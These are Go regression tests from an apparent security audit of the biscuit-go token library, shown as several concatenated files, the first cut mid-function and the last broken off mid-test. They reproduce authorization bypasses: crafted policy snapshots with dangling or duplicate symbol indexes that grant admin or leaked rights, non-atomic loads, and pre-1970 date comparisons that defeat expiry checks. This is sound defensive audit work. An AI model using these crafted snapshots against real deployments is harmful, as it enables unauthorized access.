			data := bytes.Repeat([]byte{fill}, 64)
			fr := &faultReader{data: data, failAt: 64, err: errBoom}
			tok, pub, err, rec := runOp(op, fr)
			if rec != nil || err != nil {
				t.Errorf("%s fill=%x: err=%v rec=%v", name, fill, err, rec)
				continue
			}
			checkToken(t, name, tok, pub, fr.delivered)
		}
		// root seed reused as next seed
		tok, pub, err, rec := runOp(op, &overReader{data: seedBytes()})
		if rec != nil || err != nil {
			t.Errorf("%s over: err=%v rec=%v", name, err, rec)
			continue
		}
		checkToken(t, name+"/over", tok, pub, seedBytes()[:32])
	}
}

func TestC20SealIgnoresSource(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := NewBuilder(priv)
	_ = b.AddAuthorityFact(fact("right", "read"))
	tok, _ := b.Build()
	bb := tok.CreateBlock()
	_ = bb.AddFact(fact("extra", "s"))
	tok2, err := tok.Append(nil, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	for _, tk := range []*Biscuit{tok, tok2} {
		fr := &faultReader{data: seedBytes(), failAt: 0, err: errBoom}
		s, err := tk.Seal(fr)
		if err != nil {
			t.Fatal(err)
		}
		if fr.calls != 0 {
			t.Errorf("seal drew randomness")
		}
		if _, err := s.Authorizer(pub); err != nil {
			t.Errorf("sealed does not verify: %v", err)
		}
		ser, _ := s.Serialize()
		s2, err := Unmarshal(ser)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s2.Authorizer(pub); err != nil {
			t.Errorf("sealed deser does not verify: %v", err)
		}
		if x, err := s2.Append(fr, s2.CreateBlock().Build()); err == nil || x != nil {
			t.Errorf("append on sealed")
		}
	}
}
