// Package directory: repository root (package biscuit), i.e. copy this file to
// <repo>/c18_demo_test.go and run
//   go test -count=1 -run 'TestC18' -v .
// Every test below FAILS on the unchanged library exactly when the described
// violation is present.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

func c18Token(t *testing.T, priv ed25519.PrivateKey, facts ...Fact) *Biscuit {
	t.Helper()
	b := NewBuilder(priv)
	for _, f := range facts {
		if err := b.AddAuthorityFact(f); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

func c18Fact(name string, ids ...string) Fact {
	f := Fact{Predicate{Name: name}}
	for _, s := range ids {
		f.IDs = append(f.IDs, String(s))
	}
	return f
}

var c18Generous = datalog.WithMaxDuration(30 * time.Second)

// Finding 1 (Authorize flavour).
// "Saving is refused once the authorizer has been evaluated" is violated when the
// evaluation ended with an error from World.Run: the dirty flag is only set after a
// successful run, but the token's authority facts and rules were already merged into
// the authorizer's world. The accepted snapshot therefore contains the facts of the
// token the authorizer was built for, and grants them to any other token.
func TestC18_SaveAcceptedAfterFailedAuthorize_LeaksTokenFacts(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)

	tokenA := c18Token(t, priv,
		c18Fact("right", "/secret", "read"),
		c18Fact("right", "/secret", "write"),
		c18Fact("user", "alice"),
	)
	tokenB := c18Token(t, priv) // no rights at all

	allowSecretRead := Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "right", IDs: []Term{String("/secret"), String("read")}}},
	}}}

	// authorizer for token A, evaluation stops on a world limit
	a, err := tokenA.Authorizer(pub, WithWorldOptions(c18Generous, datalog.WithMaxFacts(3)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(allowSecretRead)
	if err := a.Authorize(); err != datalog.ErrWorldRunLimitMaxFacts {
		t.Fatalf("setup: expected the fact limit error, got %v", err)
	}

	snap, err := a.SerializePolicies()
	if err == nil {
		t.Errorf("SerializePolicies accepted an authorizer on which Authorize() has already run (it failed with a world limit)")
	} else {
		return // refused: property holds
	}

	p := &pb.AuthorizerPolicies{}
	if err := proto.Unmarshal(snap, p); err != nil {
		t.Fatal(err)
	}
	if len(p.Facts) != 0 {
		t.Errorf("the snapshot of an authorizer to which no fact was ever added contains %d facts (token A's authority facts); symbols=%q", len(p.Facts), p.Symbols)
	}

	// control: token B with the very same policy is denied
	ctrl, _ := tokenB.Authorizer(pub, WithWorldOptions(c18Generous))
	ctrl.AddPolicy(allowSecretRead)
	if err := ctrl.Authorize(); err != ErrNoMatchingPolicy {
		t.Fatalf("control: expected ErrNoMatchingPolicy, got %v", err)
	}

	// restored from the snapshot: token B is now allowed through token A's facts
	restored, _ := tokenB.Authorizer(pub, WithWorldOptions(c18Generous))
	if err := restored.LoadPolicies(snap); err != nil {
		t.Fatal(err)
	}
	if err := restored.Authorize(); err == nil {
		t.Errorf("token B (no rights) is AUTHORIZED by the authorizer restored from the snapshot: token A's rights leaked through SerializePolicies")
	}
}

// Finding 1 (Query flavour, rule error instead of a limit).
func TestC18_SaveAcceptedAfterFailedQuery(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok := c18Token(t, priv, c18Fact("user", "alice"))

	a, _ := tok.Authorizer(pub, WithWorldOptions(c18Generous))
	a.AddFact(c18Fact("seed", "s"))
	// derives one fact in the first round, a second rule fails with a type error
	a.AddRule(Rule{
		Head: Predicate{Name: "derived", IDs: []Term{Variable("x")}},
		Body: []Predicate{{Name: "seed", IDs: []Term{Variable("x")}}},
	})
	a.AddRule(Rule{
		Head:        Predicate{Name: "never", IDs: []Term{Variable("x")}},
		Body:        []Predicate{{Name: "derived", IDs: []Term{Variable("x")}}},
		Expressions: []Expression{{Value{Variable("x")}, Value{Integer(1)}, BinaryLessThan}},
	})

	_, qerr := a.Query(Rule{
		Head: Predicate{Name: "q", IDs: []Term{Variable("x")}},
		Body: []Predicate{{Name: "derived", IDs: []Term{Variable("x")}}},
	})
	if qerr == nil {
		t.Fatal("setup: the query was expected to fail")
	}

	snap, err := a.SerializePolicies()
	if err == nil {
		p := &pb.AuthorizerPolicies{}
		_ = proto.Unmarshal(snap, p)
		t.Errorf("SerializePolicies accepted an authorizer whose world has been run by Query() (run error: %v); snapshot holds %d facts although only 1 was added (derived facts are saved as if they were authorizer facts)", qerr, len(p.Facts))
	}
}

// Finding 2. LoadPolicies accepts bytes that are semantically malformed: symbol indexes that
// are not in the snapshot's symbol table, and symbol tables with duplicate / default entries
// (which Extend silently de-duplicates, shifting every later index). No error is returned.
func TestC18_LoadAcceptsDanglingAndDuplicateSymbols(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok := c18Token(t, priv)

	str := func(i uint64) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_String_{String_: i}} }
	fact := func(name uint64, terms ...*pb.TermV2) *pb.FactV2 {
		return &pb.FactV2{Predicate: &pb.PredicateV2{Name: proto.Uint64(name), Terms: terms}}
	}
	allow := pb.Policy_Allow

	t.Run("dangling index", func(t *testing.T) {
		// table has 2 entries (1024, 1025); the fact and the policy both use #1030
		snap, err := proto.Marshal(&pb.AuthorizerPolicies{
			Symbols: []string{"p", "allow"},
			Version: proto.Uint32(3),
			Facts:   []*pb.FactV2{fact(1024, str(1030))},
			Policies: []*pb.Policy{{Kind: &allow, Queries: []*pb.RuleV2{{
				Head: &pb.PredicateV2{Name: proto.Uint64(1025)},
				Body: []*pb.PredicateV2{{Name: proto.Uint64(1024), Terms: []*pb.TermV2{str(1030)}}},
			}}}},
		})
		if err != nil {
			t.Fatal(err)
		}
		a, _ := tok.Authorizer(pub, WithWorldOptions(c18Generous))
		if err := a.LoadPolicies(snap); err == nil {
			t.Errorf("LoadPolicies returned no error for a snapshot that references symbol #1030 with a 2-entry symbol table")
			// and the result is not even self-consistent: the fact keeps the raw index, the
			// policy is re-interned under the name "<invalid symbol 1030>", so the policy
			// `allow if p(#1030)` does not match the fact p(#1030) of the same snapshot
			if err := a.Authorize(); err != nil {
				t.Logf("(consequence) policy p(#1030) does not match fact p(#1030) from the same snapshot: %v", err)
			}
		}
	})

	t.Run("duplicate symbol shifts indexes", func(t *testing.T) {
		// table: 1024="p" 1025="a" 1026="a"(dup) 1027="b" 1028="allow"; fact p("b") = p(#1027)
		snap, err := proto.Marshal(&pb.AuthorizerPolicies{
			Symbols: []string{"p", "a", "a", "b", "allow"},
			Version: proto.Uint32(3),
			Facts:   []*pb.FactV2{fact(1024, str(1027))},
		})
		if err != nil {
			t.Fatal(err)
		}
		a, _ := tok.Authorizer(pub, WithWorldOptions(c18Generous))
		err = a.LoadPolicies(snap)
		if err != nil {
			return // rejected: fine
		}
		got, qerr := a.Query(Rule{
			Head: Predicate{Name: "q", IDs: []Term{Variable("x")}},
			Body: []Predicate{{Name: "p", IDs: []Term{Variable("x")}}},
		})
		if qerr != nil {
			t.Fatal(qerr)
		}
		if len(got) != 1 || got[0].String() != `q("b")` {
			t.Errorf("snapshot says p(\"b\") (symbol #1027 of its own table) but after a load WITHOUT error the authorizer holds %v", got)
		}
	})
}

// Adjacent observation (not strictly in the property text): a LoadPolicies call that
// returns an error is not atomic. Facts and rules decoded before the malformed part stay in
// the authorizer, and its symbol table has been replaced.
func TestC18_FailedLoadLeavesResidue(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok := c18Token(t, priv)

	badKind := pb.Policy_Kind(7)
	snap, err := proto.Marshal(&pb.AuthorizerPolicies{
		Symbols: []string{"/secret"},
		Version: proto.Uint32(3),
		Facts: []*pb.FactV2{{Predicate: &pb.PredicateV2{Name: proto.Uint64(4 /* right */), Terms: []*pb.TermV2{
			{Content: &pb.TermV2_String_{String_: 1024}},
			{Content: &pb.TermV2_String_{String_: 0 /* read */}},
		}}}},
		Policies: []*pb.Policy{{Kind: &badKind}},
	})
	if err != nil {
		t.Fatal(err)
	}

	a, _ := tok.Authorizer(pub, WithWorldOptions(c18Generous))
	if err := a.LoadPolicies(snap); err == nil {
		t.Fatal("setup: the snapshot was expected to be rejected")
	}
	// the application falls back to its built-in policy on the same authorizer
	a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "right", IDs: []Term{String("/secret"), String("read")}}},
	}}})
	if err := a.Authorize(); err == nil {
		t.Errorf("a REJECTED snapshot still injected right(\"/secret\", \"read\") into the authorizer: token without rights is authorized")
	}
}

// Borderline / low: an unevaluated authorizer whose content is perfectly usable by Authorize()
// (an empty set, or a set mixing element types, both constructible through the public API; the
// mixed set also through the text parser) cannot be saved at all.
func TestC18_SaveRefusesUsableContent_EmptySet(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok := c18Token(t, priv)

	build := func() Authorizer {
		a, _ := tok.Authorizer(pub, WithWorldOptions(c18Generous))
		a.AddFact(Fact{Predicate{Name: "p", IDs: []Term{Set{}}}})
		a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
			Head:        Predicate{Name: "allow"},
			Body:        []Predicate{{Name: "p", IDs: []Term{Variable("s")}}},
			Expressions: []Expression{{Value{Variable("s")}, UnaryLength, Value{Integer(0)}, BinaryEqual}},
		}}})
		return a
	}
	if err := build().Authorize(); err != nil {
		t.Fatalf("setup: the authorizer content is expected to be usable, got %v", err)
	}
	if _, err := build().SerializePolicies(); err != nil {
		t.Errorf("an unevaluated authorizer that authorizes fine cannot be saved: %v", err)
	}
}
