// Audit C06 (expressions are total, typed, arithmetically exact) - reproducing tests.
//
// Package directory: the repository ROOT (package biscuit), e.g. copy to
//   <repo>/c06_demo_test.go
// and run
//   GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test . -run 'TestC06' -count=1 -v
//
// Every test FAILS on the unchanged tree (it reports through t.Errorf) and passes once the
// corresponding defect is repaired.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// c06Eval evaluates and converts a panic into a test failure.
func c06Eval(t *testing.T, name string, e datalog.Expression, vals map[datalog.Variable]*datalog.Term, syms *datalog.SymbolTable) (res datalog.Term, err error, panicked bool) {
	t.Helper()
	defer func() {
		if p := recover(); p != nil {
			t.Errorf("%s: Evaluate panicked instead of returning an error: %v", name, p)
			panicked = true
		}
	}()
	res, err = e.Evaluate(vals, syms)
	return
}

// F1: malformed operator sequences made of the package's own exported op types panic.
func TestC06_F1_MalformedOpsPanic(t *testing.T) {
	syms := &datalog.SymbolTable{}
	one := datalog.Value{ID: datalog.Integer(1)}
	i := datalog.Integer(1)
	var nilTerm datalog.Term

	cases := []struct {
		name string
		e    datalog.Expression
		vals map[datalog.Variable]*datalog.Term
	}{
		// zero values of the exported op structs
		{"zero-value UnaryOp{}", datalog.Expression{one, datalog.UnaryOp{}}, nil},
		{"zero-value BinaryOp{}", datalog.Expression{one, one, datalog.BinaryOp{}}, nil},
		{"zero-value Value{} (nil term)", datalog.Expression{datalog.Value{}}, nil},
		{"nil Op", datalog.Expression{nil}, nil},
		// typed nil inside the op
		{"UnaryOp{(*Negate)(nil)}", datalog.Expression{datalog.Value{ID: datalog.Bool(true)}, datalog.UnaryOp{UnaryOpFunc: (*datalog.Negate)(nil)}}, nil},
		// pointer forms: they satisfy the Op / Term interfaces, report the same Type(), and are then
		// type-asserted to the value form without the ok check
		{"&Value{1}", datalog.Expression{&datalog.Value{ID: datalog.Integer(1)}}, nil},
		{"&UnaryOp{Parens}", datalog.Expression{one, &datalog.UnaryOp{UnaryOpFunc: datalog.Parens{}}}, nil},
		{"&BinaryOp{Add}", datalog.Expression{one, one, &datalog.BinaryOp{BinaryOpFunc: datalog.Add{}}}, nil},
		{"*Integer operands of <", datalog.Expression{datalog.Value{ID: &i}, datalog.Value{ID: &i}, datalog.BinaryOp{BinaryOpFunc: datalog.LessThan{}}}, nil},
		// a variable the map knows but that is not bound (MatchedVariables uses nil for "not bound yet")
		{"variable mapped to nil pointer", datalog.Expression{datalog.Value{ID: datalog.Variable(1)}}, map[datalog.Variable]*datalog.Term{1: nil}},
		{"variable bound to nil term", datalog.Expression{datalog.Value{ID: datalog.Variable(1)}, datalog.UnaryOp{UnaryOpFunc: datalog.Length{}}}, map[datalog.Variable]*datalog.Term{1: &nilTerm}},
		// set holding a nil element
		{"Set{nil} == Set{nil}", datalog.Expression{datalog.Value{ID: datalog.Set{nil}}, datalog.Value{ID: datalog.Set{nil}}, datalog.BinaryOp{BinaryOpFunc: datalog.Equal{}}}, nil},
	}
	for _, c := range cases {
		c06Eval(t, c.name, c.e, c.vals, syms)
	}
}

// F2: a String operand that denotes no string (index outside the symbol table) is not an error:
// the evaluator computes on the text of SymbolTable.Str's placeholder "<invalid symbol N>".
func TestC06_F2_UnresolvableStringIsGivenAValue(t *testing.T) {
	syms := &datalog.SymbolTable{}
	ghost := datalog.Value{ID: datalog.String(5000)} // table is empty: nothing resolves 5000

	res, err, _ := c06Eval(t, "length", datalog.Expression{ghost, datalog.UnaryOp{UnaryOpFunc: datalog.Length{}}}, nil, syms)
	if err == nil {
		t.Errorf("String(5000).length() on an empty symbol table = %v, want an error", res)
	}
	prefix := syms.Insert("<invalid")
	res, err, _ = c06Eval(t, "starts_with", datalog.Expression{ghost, datalog.Value{ID: prefix}, datalog.BinaryOp{BinaryOpFunc: datalog.Prefix{}}}, nil, syms)
	if err == nil {
		t.Errorf("String(5000).starts_with(\"<invalid\") = %v, want an error", res)
	}
	before := syms.Len()
	res, err, _ = c06Eval(t, "concat", datalog.Expression{ghost, datalog.Value{ID: datalog.String(5001)}, datalog.BinaryOp{BinaryOpFunc: datalog.Add{}}}, nil, syms)
	if err == nil {
		t.Errorf("String(5000) + String(5001) = %v and added %q to the symbol table, want an error", res, (*syms)[before:])
	}
}

// F2, reached through the public API: LoadPolicies does not check symbol indexes (Unmarshal/New/Append
// do since 0bf869b), so a loaded rule computing on an unresolvable string fires.
func TestC06_F2_ViaLoadPolicies(t *testing.T) {
	u64 := func(v uint64) *uint64 { return &v }
	version := uint32(3)
	length := pb.OpUnary_Length
	equal := pb.OpBinary_Equal
	allow := pb.Policy_Allow
	// read(1) <- "#5000".length() == 21      (21 == len("<invalid symbol 5000>"))
	rule := &pb.RuleV2{
		Head: &pb.PredicateV2{Name: u64(0), Terms: []*pb.TermV2{{Content: &pb.TermV2_Integer{Integer: 1}}}},
		Expressions: []*pb.ExpressionV2{{Ops: []*pb.Op{
			{Content: &pb.Op_Value{Value: &pb.TermV2{Content: &pb.TermV2_String_{String_: 5000}}}},
			{Content: &pb.Op_Unary{Unary: &pb.OpUnary{Kind: &length}}},
			{Content: &pb.Op_Value{Value: &pb.TermV2{Content: &pb.TermV2_Integer{Integer: 21}}}},
			{Content: &pb.Op_Binary{Binary: &pb.OpBinary{Kind: &equal}}},
		}}},
	}
	// allow if read(1)
	policy := &pb.Policy{Kind: &allow, Queries: []*pb.RuleV2{{
		Head: &pb.PredicateV2{Name: u64(0)},
		Body: []*pb.PredicateV2{{Name: u64(0), Terms: []*pb.TermV2{{Content: &pb.TermV2_Integer{Integer: 1}}}}},
	}}}
	blob, err := proto.Marshal(&pb.AuthorizerPolicies{Version: &version, Rules: []*pb.RuleV2{rule}, Policies: []*pb.Policy{policy}})
	if err != nil {
		t.Fatal(err)
	}

	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok, err := NewBuilder(priv).Build()
	if err != nil {
		t.Fatal(err)
	}
	a, err := tok.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	if err != nil {
		t.Fatal(err)
	}
	if err := a.LoadPolicies(blob); err != nil {
		return // rejected at load time: repaired
	}
	if err := a.Authorize(); err == nil {
		t.Errorf("rule `read(1) <- <string #5000, which no table resolves>.length() == 21` fired and authorized the request")
	}
}

// F3: a variable inside a set literal is neither substituted nor rejected by Evaluate.
func TestC06_F3_VariableInsideSetIsNotSubstituted(t *testing.T) {
	syms := &datalog.SymbolTable{}
	var x datalog.Term = datalog.Integer(1)
	vals := map[datalog.Variable]*datalog.Term{7: &x}
	// [$x].contains(1) with $x = 1 : true, or an error if sets may not hold variables - never false
	res, err, _ := c06Eval(t, "[$x].contains(1)", datalog.Expression{
		datalog.Value{ID: datalog.Set{datalog.Variable(7)}},
		datalog.Value{ID: datalog.Integer(1)},
		datalog.BinaryOp{BinaryOpFunc: datalog.Contains{}},
	}, vals, syms)
	if err == nil && !res.Equal(datalog.Bool(true)) {
		t.Errorf("[$x].contains(1) with $x bound to 1 = %v (no error)", res)
	}
}

func c06Authorize(t *testing.T, check Check, now time.Time) error {
	t.Helper()
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := NewBuilder(priv)
	if err := b.AddAuthorityCheck(check); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	a, err := tok.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddFact(Fact{Predicate{Name: "time", IDs: []Term{Date(now)}}})
	a.AddPolicy(DefaultAllowPolicy)
	return a.Authorize()
}

// F4: ordering on dates is wrong for every date before 1970-01-01: biscuit.Date.convert wraps the
// negative Unix time into a huge uint64, so such a date compares AFTER every present-day date.
func TestC06_F4_DateBeforeEpochOrdering(t *testing.T) {
	before := time.Date(1969, 12, 31, 23, 59, 59, 0, time.UTC)
	after := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	// check if 1969-12-31T23:59:59Z < 2020-01-01T00:00:00Z
	err := c06Authorize(t, Check{Queries: []Rule{{
		Head:        Predicate{Name: "q"},
		Expressions: []Expression{{Value{Date(before)}, Value{Date(after)}, BinaryLessThan}},
	}}}, after)
	if err != nil {
		t.Errorf("1969-12-31T23:59:59Z < 2020-01-01T00:00:00Z evaluated to false: %v", err)
	}
}

// F4, the way it bites: an expiry left at the zero time.Time (year 1) yields a token that never expires.
func TestC06_F4_ZeroTimeExpiryNeverExpires(t *testing.T) {
	var expiry time.Time
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	// check if time($now), $now <= 0001-01-01T00:00:00Z
	err := c06Authorize(t, Check{Queries: []Rule{{
		Head:        Predicate{Name: "q"},
		Body:        []Predicate{{Name: "time", IDs: []Term{Variable("now")}}},
		Expressions: []Expression{{Value{Variable("now")}, Value{Date(expiry)}, BinaryLessOrEqual}},
	}}}, now)
	if err == nil {
		t.Errorf("check if time($now), $now <= 0001-01-01T00:00:00Z succeeded with time(2026-01-01T00:00:00Z)")
	}
}
