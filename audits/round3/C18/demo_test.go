// Package directory: repository root (package biscuit), e.g. copy to <repo>/audit_c18_demo_test.go
//
//	GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run TestAuditC18 -count=1 -v .
//
// Every test FAILS on the unchanged library exactly when the violation is present.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

var auditC18Opt = WithWorldOptions(datalog.WithMaxDuration(30 * time.Second))

func auditC18Token(t *testing.T, user string) (*Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b := NewBuilder(priv)
	if err := b.AddAuthorityFact(Fact{Predicate{Name: "user", IDs: []Term{String(user)}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok, pub
}

func auditC18U64(v uint64) *uint64 { return &v }

// Finding 1: a snapshot whose fact uses a symbol index that the snapshot's own symbol table does not
// resolve (here #1024 with an empty table) is malformed, but LoadPolicies returns nil. The dangling index
// is then given a meaning by whatever string the *token* interns first: the loaded fact admin(#1024)
// becomes admin("mallory") for mallory's token and admin("alice") for alice's token.
func TestAuditC18_LoadAcceptsUnresolvedSymbolIndex(t *testing.T) {
	// a well-formed snapshot holding only the policy: allow if admin($u), user($u)
	tok0, pub0 := auditC18Token(t, "nobody")
	src, err := tok0.Authorizer(pub0, auditC18Opt)
	if err != nil {
		t.Fatal(err)
	}
	src.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow", IDs: []Term{Variable("u")}},
		Body: []Predicate{
			{Name: "admin", IDs: []Term{Variable("u")}},
			{Name: "user", IDs: []Term{Variable("u")}},
		},
	}}})
	good, err := src.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}
	msg := &pb.AuthorizerPolicies{}
	if err := proto.Unmarshal(good, msg); err != nil {
		t.Fatal(err)
	}
	// "admin" and "user" are default symbols, "allow"/"u" are the only table entries (#1024, #1025);
	// the fact below uses #1026 which nothing in the snapshot resolves.
	dangling := uint64(1024 + len(msg.Symbols))
	msg.Facts = append(msg.Facts, &pb.FactV2{Predicate: &pb.PredicateV2{
		Name:  auditC18U64(13), // default symbol "admin"
		Terms: []*pb.TermV2{{Content: &pb.TermV2_String_{String_: dangling}}},
	}})
	bad, err := proto.Marshal(msg)
	if err != nil {
		t.Fatal(err)
	}

	for _, user := range []string{"mallory", "alice"} {
		tok, pub := auditC18Token(t, user)
		a, err := tok.Authorizer(pub, auditC18Opt)
		if err != nil {
			t.Fatal(err)
		}
		err = a.LoadPolicies(bad)
		if err != nil {
			continue // expected: malformed snapshot refused
		}
		t.Errorf("LoadPolicies accepted a snapshot whose fact uses unresolved symbol index #%d (token of %q)", dangling, user)
		if res := a.Authorize(); res == nil {
			t.Errorf("  ... and the token of %q is now authorized as admin: the dangling index was bound to the token's own string", user)
		}
		fs, _ := a.Query(Rule{Head: Predicate{Name: "q", IDs: []Term{Variable("x")}}, Body: []Predicate{{Name: "admin", IDs: []Term{Variable("x")}}}})
		t.Logf("  admin facts seen by the restored authorizer for %q: %v", user, fs)
	}
}

// Finding 1 (same root cause, other shape): the snapshot's symbol list holds a repeated entry (or a
// default symbol). Extend() silently drops it, every later index shifts by one, and the facts are
// re-interpreted: p(#1026) -- "alice" by position in the bytes -- is restored as p("bob"). No error.
func TestAuditC18_LoadAcceptsRepeatedSymbol(t *testing.T) {
	for name, symbols := range map[string][]string{
		"repeated entry": {"p", "alice", "alice", "bob"},
		"default symbol": {"p", "alice", "read", "bob"},
	} {
		version := uint32(3)
		msg := &pb.AuthorizerPolicies{
			Symbols: symbols,
			Version: &version,
			Facts: []*pb.FactV2{{Predicate: &pb.PredicateV2{
				Name:  auditC18U64(1024),                                                // "p"
				Terms: []*pb.TermV2{{Content: &pb.TermV2_String_{String_: 1024 + 2}}}, // third entry of the list
			}}},
		}
		bad, err := proto.Marshal(msg)
		if err != nil {
			t.Fatal(err)
		}
		tok, pub := auditC18Token(t, "carol")
		a, err := tok.Authorizer(pub, auditC18Opt)
		if err != nil {
			t.Fatal(err)
		}
		if err := a.LoadPolicies(bad); err != nil {
			continue // expected
		}
		fs, qerr := a.Query(Rule{Head: Predicate{Name: "q", IDs: []Term{Variable("x")}}, Body: []Predicate{{Name: "p", IDs: []Term{Variable("x")}}}})
		t.Errorf("%s: LoadPolicies accepted symbol list %q; fact p(#1026) (%q by position) restored as %v (err %v)",
			name, symbols, symbols[2], fs, qerr)
	}
}
