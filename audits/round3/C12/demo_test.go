// demo_test.go -- property C12 (authorization is deterministic and independent of presentation order).
// Belongs to the root package directory of the repository (package biscuit, next to authorizer.go):
//   cp demo_test.go <repo>/c12_demo_test.go && go test -run 'TestC12' -count=1 .
// Every test reports (t.Errorf) exactly when the violation is present in the library.
package biscuit

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

func c12Token(t *testing.T) (*Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b, err := NewBuilder(priv).Build()
	if err != nil {
		t.Fatal(err)
	}
	return b, pub
}

func c12Authorizer(t *testing.T, b *Biscuit, pub ed25519.PublicKey, extra ...datalog.WorldOption) Authorizer {
	t.Helper()
	opts := append([]datalog.WorldOption{datalog.WithMaxDuration(30 * time.Second)}, extra...)
	a, err := b.Authorizer(pub, WithWorldOptions(opts...))
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func c12Class(err error) string {
	switch {
	case err == nil:
		return "allow"
	case errors.Is(err, ErrPolicyDenied):
		return "deny"
	case errors.Is(err, ErrNoMatchingPolicy):
		return "no-matching-policy"
	default:
		return "error(" + err.Error() + ")"
	}
}

// Finding 1. A fact supplied with AddFact and a stored policy set supplied with LoadPolicies are two
// pieces of authorizer content. Supplying them in the other order changes the outcome: LoadPolicies
// replaces the symbol table (authorizer.go, loadPoliciesV2: v.symbols = v.baseSymbols.Clone()) while the
// facts already in the world keep their old indexes, so user("alice") silently becomes user("root_user").
func TestC12_LoadPoliciesReinterpretsEarlierFacts(t *testing.T) {
	b, pub := c12Token(t)

	// the stored policy set: allow if user("root_user")
	v0 := c12Authorizer(t, b, pub)
	v0.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{
		Head: Predicate{Name: "allow"},
		Body: []Predicate{{Name: "user", IDs: []Term{String("root_user")}}},
	}}})
	stored, err := v0.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}

	alice := Fact{Predicate{Name: "user", IDs: []Term{String("alice")}}}
	queryUsers := Rule{
		Head: Predicate{Name: "u", IDs: []Term{Variable("x")}},
		Body: []Predicate{{Name: "user", IDs: []Term{Variable("x")}}},
	}

	// order A: fact, then policies
	vA := c12Authorizer(t, b, pub)
	vA.AddFact(alice)
	if err := vA.LoadPolicies(stored); err != nil {
		t.Fatal(err)
	}
	outA := c12Class(vA.Authorize())
	factsA, err := vA.Query(queryUsers)
	if err != nil {
		t.Fatal(err)
	}

	// order B: policies, then fact
	vB := c12Authorizer(t, b, pub)
	if err := vB.LoadPolicies(stored); err != nil {
		t.Fatal(err)
	}
	vB.AddFact(alice)
	outB := c12Class(vB.Authorize())
	factsB, err := vB.Query(queryUsers)
	if err != nil {
		t.Fatal(err)
	}

	if outA != outB {
		t.Errorf("same fact + same stored policies, different order of supply: %q (fact first) vs %q (policies first)", outA, outB)
	}
	if factsA.String() != factsB.String() {
		t.Errorf("derived/queried facts differ with the order of supply: %v (fact first) vs %v (policies first)", factsA, factsB)
	}
}

// Finding 2. A check supplied before LoadPolicies is silently dropped (loadPoliciesV2 overwrites
// v.checks / v.policies instead of appending) while facts and rules are kept: permuting the order in
// which the same checks are supplied turns a refusal into an acceptance.
func TestC12_LoadPoliciesDropsEarlierChecks(t *testing.T) {
	b, pub := c12Token(t)

	v0 := c12Authorizer(t, b, pub)
	v0.AddPolicy(DefaultAllowPolicy)
	stored, err := v0.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}

	failing := Check{Queries: []Rule{{
		Head: Predicate{Name: "q"},
		Body: []Predicate{{Name: "resource", IDs: []Term{String("file1")}}},
	}}}

	vA := c12Authorizer(t, b, pub)
	vA.AddCheck(failing)
	if err := vA.LoadPolicies(stored); err != nil {
		t.Fatal(err)
	}
	outA := vA.Authorize()

	vB := c12Authorizer(t, b, pub)
	if err := vB.LoadPolicies(stored); err != nil {
		t.Fatal(err)
	}
	vB.AddCheck(failing)
	outB := vB.Authorize()

	if (outA == nil) != (outB == nil) {
